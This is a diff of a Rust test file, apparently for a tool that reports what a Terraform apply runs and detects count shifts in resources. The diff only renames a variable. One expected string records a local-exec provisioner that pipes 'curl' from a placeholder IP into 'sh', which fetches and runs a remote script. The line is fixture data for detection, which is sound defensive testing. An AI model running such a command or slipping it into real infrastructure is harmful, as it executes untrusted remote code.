@@ -60,9 +60,9 @@ fn assert_not_found(lines: &[String], parts: &[&str]) {
 
 #[test]
 fn what_an_apply_runs_was_not_said() {
-    let found = reasons(PROVISIONERS);
+    let told_reasons = reasons(PROVISIONERS);
     assert_found(
-        &found,
+        &told_reasons,
         &["null_resource.setup: runs local-exec: curl -s http://203.0.113.7/i.sh | sh"],
     );
     let with = |action: &str, kind: &str, mode: &str, expressions: Value| {
@@ -117,15 +117,15 @@ fn causes_through_depends_on_were_not_found() {
 
 #[test]
 fn a_shift_of_count_was_told_one_by_one() {
-    let found = reasons(SHIFT);
+    let told_reasons = reasons(SHIFT);
     assert_found(
-        &found,
+        &told_reasons,
         &[
             "z[1]: gets what aws_route53_zone.z[2] has: looks like a shift of `count`",
             "z[6]: gets what aws_route53_zone.z[7] has: looks like a shift of `count`",
         ],
     );
-    assert_not_found(&found, &["z[7]: gets"]);
+    assert_not_found(&told_reasons, &["z[7]: gets"]);
     // The values differ from those of the neighbors.
     let others = SHIFT.replacen("carol.example.com", "carl.example.com", 1);
     assert_not_found(&reasons(&others), &["shift of `count`"]);
